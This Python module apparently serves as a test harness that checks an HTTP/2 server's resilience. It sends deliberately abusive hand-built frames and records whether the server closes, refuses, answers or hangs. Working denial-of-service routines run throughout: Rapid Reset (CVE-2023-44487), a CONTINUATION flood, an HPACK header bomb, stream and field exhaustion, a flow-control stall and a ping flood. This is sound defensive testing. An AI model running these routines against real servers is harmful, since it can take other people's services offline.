"""HTTP/2 clients that break the rules, or keep them to do harm: frames by hand, on blocking sockets.

Each takes the address of a server, does its worst, and says in a word what became of it: `closed` where the server
ended the connection, `refused` where it ended or refused the stream, `answered` where it responded, `held` where it
waits.
"""

from __future__ import annotations

import socket
from collections.abc import Callable, Iterator
from contextlib import contextmanager

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RESET, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, END_HEADERS = 1, 4
PATIENCE_S = 1.0
Address = tuple[str, int]


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    """A frame as bytes."""
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


class Rogue:
    """One HTTP/2 connection.

    Args:
        opened: Its socket.
        window: How many bytes the server may send on each stream.
    """

    def __init__(self, opened: socket.socket, window: int = 65_535) -> None:
        self.socket = opened
        self.closed = False
        self.answered: dict[int, int] = {}
        self.reset: set[int] = set()
        self._encoder = Encoder()
        self._left = b""
        opened.settimeout(PATIENCE_S)
        self.send(PREFACE + frame(SETTINGS, 0, 0, b"\0\4" + window.to_bytes(4, "big")))

    def send(self, data: bytes) -> None:
        """Send bytes, unless the server has hung up or does not read."""
        try:
            self.socket.sendall(data)
        except OSError:
            self.closed = True

    def head(self, method: str, path: str, *more: tuple[str, str]) -> bytes:
        """The headers of a request, packed."""
        names = [(":method", method), (":path", path), (":scheme", "http"), (":authority", "rogue"), *more]
        return self._encoder.encode(names)

    def listen(self, until: Callable[[], bool]) -> None:
        """Read frames until something holds, the server hangs up or is silent for a while."""
        while not self.closed and not until():
            try:
                data = self.socket.recv(65_536)
            except TimeoutError:
                return
            except OSError:
                data = b""
            if not data:
                self.closed = True
            self._left += data
            self._parse()

    def _parse(self) -> None:
        while len(self._left) >= 9:
            size = int.from_bytes(self._left[:3], "big")
            if len(self._left) < 9 + size:
                return
            kind, flags, stream = self._left[3], self._left[4], int.from_bytes(self._left[5:9], "big")
            self._left = self._left[9 + size :]
            if kind == GOAWAY:
                self.closed = True
            elif kind == RESET:
                self.reset.add(stream)
            elif kind == HEADERS or (kind == DATA and flags & END_STREAM):
                self.answered[stream] = self.answered.get(stream, 0) + 1

    def outcome(self, stream: int = 1) -> str:
        """What became of a stream."""
        if self.closed:
            return "closed"
        if stream in self.reset:
            return "refused"
        return "answered" if stream in self.answered else "held"


@contextmanager
def rogue(address: Address, window: int = 65_535) -> Iterator[Rogue]:
    """A connection for as long as the block lasts."""
    with socket.create_connection(address) as opened:
        yield Rogue(opened, window)


def rapid_reset(address: Address) -> str:
    """Ask, and take it back at once, 20,000 times (CVE-2023-44487)."""
    with rogue(address) as client:
        for first in range(1, 40_001, 200):
            pairs = [
                frame(HEADERS, END_STREAM | END_HEADERS, stream, client.head("GET", "/queues"))
                + frame(RESET, 0, stream, b"\0\0\0\x08")
                for stream in range(first, first + 200, 2)
            ]
            client.send(b"".join(pairs))
            if client.closed:
                break
        client.listen(lambda: False)
        return client.outcome()


def endless_head(address: Address) -> str:
    """Send a head that never ends, in CONTINUATION frames."""
    with rogue(address) as client:
        client.send(frame(HEADERS, END_STREAM, 1, client.head("GET", "/queues")))
        for _ in range(1000):
            client.send(frame(CONTINUATION, 0, 1, client.head("GET", "/queues", ("x", "y" * 16_000))[-16_000:]))
            if client.closed:
                break
        client.listen(lambda: bool(client.reset))
        return client.outcome()


def packed_head(address: Address) -> str:
    """Send a small head that unpacks to 4 MB."""
    with rogue(address) as client:
        head = client.head("GET", "/queues", ("x-bomb", "y" * 3900))
        # The header is in the table now: each mention of it is a byte.
        head += client._encoder.encode([("x-bomb", "y" * 3900)]) * 1000
        client.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, head))
        client.listen(lambda: client.outcome() != "held")
        return "refused" if client.outcome() == "answered" else client.outcome()


def many_fields(address: Address) -> str:
    """Send a head of ten thousand fields."""
    with rogue(address) as client:
        head = client.head("GET", "/queues", *((f"x{number % 50}", "") for number in range(10_000)))
        client.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, head[:16_384]))
        client.listen(lambda: client.outcome() != "held")
        return client.outcome()


def endless_bodies(address: Address) -> str:
    """Begin a thousand bodies on one connection and end none."""
    with rogue(address) as client:
        fields = ("content-type", "application/json")
        for stream in range(1, 2001, 2):
            client.send(frame(HEADERS, END_HEADERS, stream, client.head("POST", "/jobs", fields)))
            client.send(frame(DATA, 0, stream, b" " * 1000))
        client.listen(lambda: False)
        return client.outcome()


def too_many_streams(address: Address) -> str:
    """Open more streams than a connection may have."""
    with rogue(address) as client:
        for stream in range(1, 4001, 2):
            client.send(frame(HEADERS, END_STREAM | END_HEADERS, stream, client.head("GET", "/jobs/take?queue=rogue")))
        client.listen(lambda: bool(client.reset))
        return client.outcome(max(client.reset, default=1))


def closed_window(address: Address) -> str:
    """Ask for a page and allow no byte of it."""
    with rogue(address, window=0) as client:
        for stream in range(1, 201, 2):
            client.send(
                frame(HEADERS, END_STREAM | END_HEADERS, stream, client.head("GET", "/jobs?queue=sloth&limit=2000"))
            )
        client.listen(lambda: False)
        return client.outcome()


def deaf_pings(address: Address) -> str:
    """Ask for two hundred thousand answers to PING and read none."""
    with rogue(address) as client:
        pings = frame(PING, 0, 0, bytes(8)) * 1000
        for _ in range(200):
            client.send(pings)
            if client.closed:
                break
        return client.outcome()


ROGUES = (
    rapid_reset, endless_head, packed_head, many_fields, endless_bodies, too_many_streams, closed_window, deaf_pings
)  # fmt: skip
